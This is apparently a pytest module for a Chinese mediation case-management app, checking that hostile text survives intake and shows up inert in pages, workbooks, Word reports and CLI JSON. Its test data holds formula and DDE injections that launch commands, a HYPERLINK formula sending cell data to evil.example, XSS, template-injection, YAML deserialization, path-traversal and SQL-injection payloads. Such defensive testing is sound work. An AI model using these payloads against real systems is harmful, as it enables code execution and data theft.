"""Every text in every field comes in by a ledger and is followed out again: pages, workbooks, Word, JSON."""

# ruff: noqa: E501 - tables of examples are read line by line

from __future__ import annotations

import io
import json
import re
import time
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass, replace
from datetime import datetime
from importlib.resources import files
from itertools import pairwise
from pathlib import Path
from typing import Any
from urllib.parse import quote
from xml.etree import ElementTree

import openpyxl
import pytest
from click.testing import CliRunner
from docx import Document
from flask import Flask
from flask.testing import FlaskClient

from jiefen_lite import casepapers, intake, papers, reports
from jiefen_lite.cli import cli
from jiefen_lite.cli.center import make_center
from jiefen_lite.cli.common import Opened, open_center
from jiefen_lite.desk import House
from jiefen_lite.shapes import CaseQuery, CaseRecord, Role, Town, Unit, Viewer, Village
from jiefen_lite.store import cases, users
from jiefen_lite.web.app import create_app
from tests.hostile import others
from tests.hostile.package import SHEET, STYLES, Cell, book, parts, rows_xml
from tests.hostile.seen import Page
from tests.web import support
from tests.web.routes import ROUTES
from tests.web.test_routes import BLANKS

pytestmark = pytest.mark.slow

NOW = datetime(2025, 12, 5, 9, 30)
DAY = "2025-11-03"
TEXTS = (
    "=cmd|' /C calc'!A0",
    "+1+cmd|'x'!A0",
    "-2+3",
    "@SUM(1+1)",
    "＝1+1＋2－3＠x",
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>' onmouseover='alert(1)",
    "javascript:alert(1)//</title></textarea><svg/onload=alert(1)>",
    "{{7*7}}{% for x in y %}{{ x }}{% endfor %}${7*7}{# 注 #}",
    "!!python/object/apply:os.system ['id'] &a [*a]",
    "金额\u202e0001元\u2066隐\u2069\u200f右",
    "👨\u200d👩\u200d👧🀄𠀀𪜀𱍐",
    "&lt;b&gt; &amp;amp; &#60;i&#62; <b>粗</b>",
    "_x0041_ _x000D_ _X0041_",
    "头一行\n=第二行\n<!-- 第三行",
    'DDEAUTO c:\\\\cmd.exe "/k calc" <w:fldSimple w:instr="x"/>',
    "%s {0.__class__} %(x)s ../../etc/passwd '; DROP TABLE case_main; --",
)
#: Columns whose words are kept to the letter, by the field that they become.
VERBATIM = {
    "简要情况": "summary",
    "诉求": "claim",
    "调解结果": "result_text",
    "发生地点": "place",
}  # fmt: skip
#: Columns whose words are taken apart, cleaned or sealed.
OTHERS = (
    *("卷号", "当事人", "联系电话", "住址", "对方当事人", "责任单位", "协办单位", "承办人", "调解员", "纠纷类型"),
    *("镇街", "涉及人数", "涉及金额", "身份证号", "备注"),
)  # fmt: skip
ODD_HEADER = '怪列"onmouseover="alert(1)"><script>alert(2)</script>{{7*7}}=1+1'
COLUMNS = (*VERBATIM, *OTHERS, ODD_HEADER)
SHEET_NAME = "=1+1'><b onclick=x>{{7}}"
FILE_NAME = '=cmd"><img src=x onerror=alert(1)>{{7*7}}<!--'
TURNED = "\u202e"  # turns a line around: in the name of a file it is told, not obeyed
TOWN, VILLAGE = "=1+1<b>&amp;{{7*7}}镇", "<i>{%x%}村"
UNIT = '@局"><b>{{7*7}}'
TYPE = "<u>{{7*7}}类&lt;=1"
RIGHT, WRONG = "入库", "拒收"

Table = list[list[str | None]]


def ledger(*, wrong: bool, no: str = "F") -> Table:
    """Every text in every column once; ``wrong``: the day is a text too, so that every row is refused."""
    header: list[str | None] = ["登记日期", *COLUMNS]
    rows: Table = [header]
    for at in range(len(TEXTS)):
        row = [TEXTS[(at + place) % len(TEXTS)] for place in range(len(COLUMNS))]
        row[COLUMNS.index("卷号")] += no  # texts that differ only in signs are one number
        rows.append([TEXTS[at] if wrong else DAY, *row])
    if not wrong:  # and what the centre itself is called
        known: dict[str, str | None] = {
            "卷号": f"{no}-1",
            "简要情况": f"{TOWN}{VILLAGE}的事",
            "镇街": TOWN,
            "责任单位": UNIT,
        }
        rows.append([DAY, *(known.get(name) for name in COLUMNS)])
    return rows


def xlsx(table: Table) -> bytes:
    """The table as a workbook whose sheet has a name of its own."""
    cells: list[list[Cell]] = [list(row) for row in table]
    sheet = parts([])[SHEET]
    start, end = sheet.index(b"<sheetData>") + len(b"<sheetData>"), sheet.index(b"</sheetData>")
    styles = parts([])[STYLES].replace(b"<fill/>", b"<fill><patternFill/></fill>")
    return book(
        [], {STYLES: styles, SHEET: sheet[:start] + rows_xml(cells).encode() + sheet[end:]}, sheet=SHEET_NAME
    )


def csv(table: Table) -> bytes:
    """The table as text."""
    lines = [",".join('"' + (cell or "").replace('"', '""') + '"' for cell in row) for row in table]
    return "\r\n".join(lines).encode("utf-8-sig")


#: ending → how the table is written so.
FORMATS: dict[str, Callable[[Table], bytes]] = {
    "xlsx": xlsx,
    "csv": csv,
    "xls": others.xls,
    "ods": lambda table: others.ods(others.ods_rows(table)),
    "html": lambda table: others.html(table).encode(),
    "xml": others.xml_2003,
    "tsv": lambda table: others.tabs(table).encode("utf-16"),
}


@dataclass
class Centre:
    """A centre into which the ledgers came, its pages, and who sits before them."""

    folder: Path
    opened: Opened
    app: Flask
    batches: dict[str, int]
    clients: dict[Role, FlaskClient]

    @property
    def viewer(self) -> Viewer:
        return self.opened.viewer

    def cases(self, *, clear: bool) -> list[CaseRecord]:
        """All cases, masked or in clear."""
        return cases.list_cases(
            self.opened.house.store, self.viewer, CaseQuery(limit=1000), unmask=clear, full=True
        )

    def get(self, address: str, role: Role = Role.SUPERVISOR) -> Page:
        """A page, of which nothing but texts may come from data."""
        return seen(self.clients[role].get(address).get_data(as_text=True), address)

    def send(self, address: str, **form: Any) -> bytes:
        """What comes of a form."""
        response = support.send(self.clients[Role.SUPERVISOR], address, **form)
        assert response.status_code == 200, (address, response.status_code)
        return response.data


def seen(html: str, address: str) -> Page:
    """A page taken apart; nothing in it has run, nothing in it is foreign."""
    page = Page(html)
    assert page.foreign == [], address
    assert not any(text.strip() == "49" for text in page.texts), address
    return page


@pytest.fixture(scope="module")
def centre(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Centre]:
    """One of which even towns, units and types have such names."""
    folder = tmp_path_factory.mktemp("centre")
    region = replace(
        support.CENTER.region, towns=(*support.CENTER.region.towns, Town(TOWN, (), 900, (Village(VILLAGE),)))
    )
    make_center(
        folder,
        replace(support.CENTER, region=region, units=(*support.CENTER.units, Unit(UNIT, "department"))),
    )
    opened = open_center(str(folder))
    house = opened.house
    first = house.book.types.types[0]
    named = replace(house.book.types, types=(replace(first, name=TYPE), *house.book.types.types[1:]))
    house.book = replace(house.book, types=named)
    for role, name in support.PEOPLE.items():
        unit = support.LABOR if role in support.OF_UNIT else None
        users.add(
            house.store, opened.viewer, name, [role], unit, support.password_hash(), NOW, must_change=False
        )
    batches = {}
    for kind, wrong in {RIGHT: False, WRONG: True}.items():
        done = intake.preview(
            house, opened.viewer, xlsx(ledger(wrong=wrong)), file_name=f"{FILE_NAME}{TURNED}{kind}.xlsx",
            channel="mediation", as_of=NOW.date(), now=NOW,
        )  # fmt: skip
        batches[kind] = done.batch_id
    for ending, write in FORMATS.items():
        done = intake.preview(
            house, opened.viewer, write(ledger(wrong=True)), file_name=f"{FILE_NAME}.{ending}",
            channel="mediation", as_of=NOW.date(), now=NOW,
        )  # fmt: skip
        batches[ending] = done.batch_id
    intake.commit(house, opened.viewer, batches[RIGHT], now=NOW)
    app = create_app(house, secret=b"s" * 32, paths=opened.paths, now=lambda: NOW)
    clients = {}
    for role, name in support.PEOPLE.items():
        clients[role] = app.test_client()
        assert support.sign_in(clients[role], name).status_code == 302
    yield Centre(folder, opened, app, batches, clients)
    house.store.close()


# --------------------------------------------------------------------------- what is stored


def test_every_text_is_stored_to_the_letter(centre: Centre) -> None:
    found = centre.cases(clear=True)
    assert len(found) == len(TEXTS) + 1
    for column, field in VERBATIM.items():
        assert {getattr(case, field) for case in found} >= set(TEXTS), column
    extra = {
        dict(intake.other_columns(centre.opened.house, centre.viewer, case.case_code)).get(ODD_HEADER)
        for case in found
    }
    assert extra >= set(TEXTS)


# --------------------------------------------------------------------------- pages


def shown_of(case: CaseRecord) -> Iterator[str]:
    """What the page of a case says of it in words that came from outside."""
    for name in (*VERBATIM.values(), "handler", "mediator", "responsible_unit", "town", "village"):
        if getattr(case, name):
            yield getattr(case, name)
    for party in case.parties:
        yield from filter(None, (party.name, party.phone, party.id_no, party.address))
    yield from filter(None, (source.source_no for source in case.sources))


def test_a_case_stands_on_its_page_to_the_letter(centre: Centre) -> None:
    """Masked, in clear, and where it is corrected."""
    clear = {case.case_code: case for case in centre.cases(clear=True)}
    for masked in centre.cases(clear=False):
        code = masked.case_code
        page = centre.get(f"/cases/{code}")
        for text in shown_of(masked):
            assert page.says(text), (code, text)
        revealed = seen(centre.send(f"/cases/{code}/reveal", reason="电话核实诉求").decode(), code)
        others_said = intake.other_columns(centre.opened.house, centre.viewer, code)
        for text in (*shown_of(clear[code]), *(word for pair in others_said for word in pair)):
            assert revealed.says(text), (code, text)
        corrected = centre.get(f"/cases/{code}/correct")
        assert corrected.says(masked.summary or "")


def test_the_list_and_two_side_by_side_say_it_to_the_letter(centre: Centre) -> None:
    """The list says a case in its one line, two side by side tell both stories."""
    found = centre.cases(clear=False)
    listed = centre.get("/cases")
    for case in found:
        line = centre.opened.house.summaries.of_case(case)
        assert line
        assert listed.says(line), line
    for one, other in pairwise(found):
        pair = centre.get(f"/doubles/{one.case_code}/{other.case_code}")
        assert pair.says(one.summary or "")
        assert pair.says(other.summary or "")


@pytest.mark.parametrize("text", TEXTS)
def test_a_text_as_a_question(centre: Centre, text: str) -> None:
    """It stands in the field of the search, and in addresses only as their question."""
    response = support.send(centre.clients[Role.SUPERVISOR], "/cases/find", q=text)
    assert response.status_code == 302
    page = centre.get(response.headers["Location"])
    assert text in page.values
    assert {*page.asked} <= {text}
    for name in (
        "month",
        "channel",
        "town",
        "type",
        "unit",
        "status",
        "light",
        "risk",
        "outcome",
        "show",
        "batch",
        "page",
    ):
        centre.get(f"/cases?{name}={quote(text)}")
        centre.get(f"/indicators?{'by' if name == 'town' else 'period'}={quote(text)}")


@pytest.mark.parametrize("text", TEXTS)
def test_a_text_where_something_went_wrong(centre: Centre, text: str) -> None:
    """What was typed stands on the page of the error; an address that leads nowhere is not repeated."""
    client = centre.clients[Role.SUPERVISOR]
    quoted = quote(text, safe="")
    for address in (
        f"/cases/{quoted}",
        f"/{quoted}",
        f"/doubles/{quoted}/{quoted}",
        f"/cases/{quoted}/correct",
    ):
        response = client.get(address)
        assert response.status_code == 404, address
        seen(response.get_data(as_text=True), address)
    stale = client.post("/cases/find", data={"q": text, "csrf_token": "alt"})
    assert stale.status_code == 400
    assert seen(stale.get_data(as_text=True), "stale").says(text)
    code = centre.cases(clear=False)[0].case_code
    wrong = support.send(client, f"/cases/{code}/correct", people=text, amount=text, unit=text, reason=text)
    page = seen(wrong.get_data(as_text=True), "correct")
    assert wrong.status_code == 422
    assert page.says(text)
    assert text[:20] in "".join(page.values) or text in page.values


def test_batches_say_names_headers_samples_and_problems_to_the_letter(centre: Centre) -> None:
    for kind in (RIGHT, WRONG):
        page = centre.get(f"/batches/{centre.batches[kind]}")
        assert page.says(f"{FILE_NAME}\ufffd{kind}.xlsx")
        assert page.says(SHEET_NAME)
        assert page.says(ODD_HEADER)
        assert centre.get("/batches").says(f"{FILE_NAME}\ufffd{kind}.xlsx")
    refused = centre.get(f"/batches/{centre.batches[WRONG]}")
    assert refused.says("登记日期不可能")
    assert refused.says(TEXTS[0])  # a sample of the column that nobody knows
    for name in FORMATS:
        page = centre.get(f"/batches/{centre.batches[name]}")
        assert page.says(f"{FILE_NAME}.{name}")


def test_the_pages_of_uploads_say_names_and_refusals_to_the_letter(centre: Centre) -> None:
    client = centre.clients[Role.SUPERVISOR]
    name = f"{FILE_NAME}坏.xlsx".replace('"', "'")  # which browsers send by its number
    support.send(client, "/upload", files=[(io.BytesIO(b"PK\x03\x04rubbish"), name)])
    for _ in range(600):
        page = centre.get("/upload")
        if any("打不开" in text for text in page.texts):
            break
        time.sleep(0.1)
    assert page.says(name)


def make_hostile_paper(house: House, code: str) -> int:
    """A paper of the case with markup in every entry that it asks for; its number."""
    people = {f"parties-{number}-name": TEXTS[0] for number in range(2)}
    entries = {**people, "mediator": TEXTS[0], "committee": TEXTS[0]}
    return casepapers.make(house, support.BOSS, code, "rights_notice", entries, support.NOW).id


def test_every_page_that_can_be_read_holds_nothing_foreign(centre: Centre) -> None:
    """Whatever stands on it, for whoever may see it."""
    code, twin = (case.case_code for case in centre.cases(clear=False)[:2])
    house, closed = centre.opened.house, datetime(2025, 12, 9, 9)
    reports.freeze(house, support.OPERATOR, "2025-11", closed)
    made = papers.make_due(house, support.OPERATOR, "2025-11", closed, None)
    addresses = {
        **BLANKS,
        "code": code,
        "twin": twin,
        "batch": str(centre.batches[RIGHT]),
        "row": "1",
        "proposal": "1",
        "paper": str(made[0]),
        "form": str(make_hostile_paper(house, code)),
    }
    looked = 0
    for route in ROUTES:
        if route.method == "GET" and not route.rule.startswith("/static"):
            for role in sorted(route.may or {Role.LEADER}):
                address = route.address.format(**addresses)
                response = centre.clients[role].get(address)
                if response.status_code == 200 and response.mimetype == "text/html":
                    seen(response.get_data(as_text=True), address)
                    looked += 1
    assert looked > 60
    for by in ("all", "town", "unit", "channel", "type"):
        page = centre.get(f"/indicators?period=2025-11&by={by}")
        named = {"town": TOWN, "unit": UNIT, "type": TYPE}.get(by)
        assert named is None or page.says(named)
    audit = centre.get("/audit", Role.AUDITOR)
    assert audit.texts


# --------------------------------------------------------------------------- workbooks


def as_excel_reads(text: Any) -> Any:
    """What the library leaves as it stands in the file: characters by their number."""
    return (
        re.sub("_x([0-9A-Fa-f]{4})_", lambda sign: chr(int(sign[1], 16)), text)
        if isinstance(text, str)
        else text
    )


def texts_of(workbook: bytes) -> list[list[Any]]:
    """The cells of all sheets; none is a formula, nothing leads out of the file."""
    with zipfile.ZipFile(io.BytesIO(workbook)) as packed:
        for name in packed.namelist():
            part = packed.read(name)
            assert not re.search(rb"<(?:\w+:)?f[ >/]", part) or "styles" in name or "drawing" in name, name
            assert b'TargetMode="External"' not in part, name
            assert not name.startswith(("xl/externalLinks", "xl/vba", "xl/embeddings")), name
            if name.endswith((".xml", ".rels", ".vml")):
                ElementTree.fromstring(part)
    opened = openpyxl.load_workbook(io.BytesIO(workbook))
    rows: list[list[Any]] = []
    for sheet in opened.worksheets:
        for row in sheet.iter_rows():
            assert {cell.data_type for cell in row} <= {"s", "n", "d", "inlineStr"}
            assert all(cell.hyperlink is None for cell in row)
            rows.append([as_excel_reads(cell.value) for cell in row])
    return rows


def test_the_list_as_a_workbook(centre: Centre) -> None:
    rows = texts_of(centre.send("/cases/export"))
    header = [low or high for high, low in zip(rows[2], rows[3], strict=True)]
    by_code = {row[header.index("案件码")]: row for row in rows[4:]}
    for case in centre.cases(clear=False):
        row = by_code[case.case_code]
        assert row[header.index("简要情况")] == case.summary
        unit = row[header.index("主办单位")].removesuffix("（规则建议）")
        assert unit == (case.responsible_unit or "待分派")
        assert row[header.index("镇（街道）")] == (case.town or "未定位")
        numbers = "、".join(filter(None, (one.source_no for one in case.sources)))
        assert row[header.index("来源编号")] == (numbers or "—")
    assert TYPE in {row[header.index("一级类型")] for row in rows[4:]} | {TYPE}


@pytest.mark.parametrize("ending", FORMATS)
def test_the_workbook_of_problems(centre: Centre, ending: str) -> None:
    """Of every format: the same cells, all of them text."""
    rows = texts_of(centre.send(f"/batches/{centre.batches[ending]}/errors.xlsx"))
    expected = ledger(wrong=True)
    told = [[cell.strip() if isinstance(cell, str) else cell for cell in row] for row in rows]
    assert told == [[(cell or "").strip() or None for cell in row] for row in expected]


def test_the_workbook_beside_a_file_of_the_watched_folder(centre: Centre) -> None:
    """Its name is only a name, in the folder, in the JSON and on the page."""
    name = "=cmd'><img src=x onerror=alert(1)>{{7*7}}&lt;人民调解"
    place = centre.folder / "inbox"
    place.mkdir(exist_ok=True)
    (place / f"{name}.csv").write_bytes(csv([row[:-1] for row in ledger(wrong=True)]))
    (told,) = said(centre, "inbox", "--once", "--wait", "0.1")
    (file,) = told["files"]
    assert (file["file"], file["state"]) == (f"{name}.csv", "failed")
    page = centre.get("/upload/inbox")
    assert page.says(f"{name}.csv")
    assert page.says(file["place"])
    rows = texts_of((place / file["errors"]).read_bytes())
    assert rows[0][0] == "登记日期"
    assert {cell for cell in rows[1] if cell} <= {*TEXTS, *(f"{text}F" for text in TEXTS)}


def test_nothing_is_given_out_as_csv() -> None:
    """There a text that begins like a formula would have to be changed; the demo's samples are no way out."""
    root = Path(__file__).parents[2]
    modules = [path for room in ("exporters", "jiefen_lite") for path in (root / room).rglob("*.py")]
    writers = {
        path.relative_to(root).parts[:2] for path in modules if "csv.writer" in path.read_text("utf-8")
    }
    assert len(modules) > 100
    assert writers <= {("jiefen_lite", "demo")}


def test_the_annex_of_the_report(centre: Centre) -> None:
    rows = texts_of(centre.send("/reports/annex.xlsx", month="2025-11"))
    words = [cell for row in rows for cell in row if isinstance(cell, str)]
    for name in (TOWN, UNIT):
        assert any(name in word for word in words), name


# --------------------------------------------------------------------------- Word


#: A figure and its fraction stand in one cell, one below the other.
LINE_END = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}br"


def elements(part: bytes) -> set[str]:
    """The names of all elements of a part."""
    return {one.tag for one in ElementTree.fromstring(part).iter()}


def test_the_report_as_a_word_file(centre: Centre) -> None:
    """Names stand in it as they are; no element is in it that its template does not have."""
    made = centre.send("/reports/health.docx", month="2025-11")
    document = Document(io.BytesIO(made))
    cells = {cell.text for table in document.tables for row in table.rows for cell in row.cells}
    assert {TOWN, UNIT} <= cells
    shipped = io.BytesIO(files("templates").joinpath("health_report.docx").read_bytes())
    with zipfile.ZipFile(io.BytesIO(made)) as packed, zipfile.ZipFile(shipped) as template:
        assert set(packed.namelist()) == set(template.namelist())
        for name in packed.namelist():
            if name.endswith((".xml", ".rels")) and not name.startswith("docProps/"):
                assert elements(packed.read(name)) - elements(template.read(name)) <= {LINE_END}, name
            assert b'TargetMode="External"' not in packed.read(name)
    proof = support.send(
        centre.clients[Role.SUPERVISOR], "/reports/verify", document=(io.BytesIO(made), f"{FILE_NAME}.docx")
    )
    page = seen(proof.get_data(as_text=True), "verify")
    assert any("与数据一致" in text for text in page.texts)


# --------------------------------------------------------------------------- the command line


def said(centre: Centre, *words: str) -> list[Any]:
    """The JSON of a command, line by line; every line is one, and no sign in it moves a terminal's pen."""
    result = CliRunner().invoke(cli, ["--center", str(centre.folder), *words, "--json"])
    assert result.exit_code in (0, 1), result.output
    assert not {sign for sign in result.stdout if ord(sign) < 32} - {"\n"}
    return [json.loads(line) for line in result.stdout.splitlines()]


def test_the_json_of_the_command_line(centre: Centre, tmp_path: Path) -> None:
    clear = {case.case_code: case for case in centre.cases(clear=True)}
    lines = said(centre, "cases", "--unmask")
    assert {line["case_code"] for line in lines} == set(clear)
    for line in lines:
        case = clear[line["case_code"]]
        assert (line["summary"], line["place"], line["town"]) == (case.summary, case.place, case.town)
        assert line["responsible_unit"] == case.responsible_unit
        assert [one["name"] for one in line["parties"]] == [one.name for one in case.parties]
    path = tmp_path / "再来.xlsx"
    path.write_bytes(xlsx(ledger(wrong=True)))
    (told,) = said(centre, "import", "--channel", "mediation", "--dry-run", str(path))
    (file,) = told["files"]
    assert [sheet["sheet"] for sheet in file["sheets"]] == [SHEET_NAME]
    assert file["rejected"] == len(TEXTS)
    assert {problem["sheet"] for problem in file["problems"]} == {SHEET_NAME}
    (told,) = said(centre, "batches")
    assert f"{FILE_NAME}\ufffd{RIGHT}.xlsx" in json.dumps(told, ensure_ascii=False).replace('\\"', '"')
    out = tmp_path / "台账.xlsx"
    result = CliRunner().invoke(
        cli, ["--center", str(centre.folder), "cases", "--unmask", "--xlsx", str(out)]
    )
    assert result.exit_code == 0, result.output
    assert {case.summary for case in clear.values()} <= {
        cell for row in texts_of(out.read_bytes()) for cell in row
    }
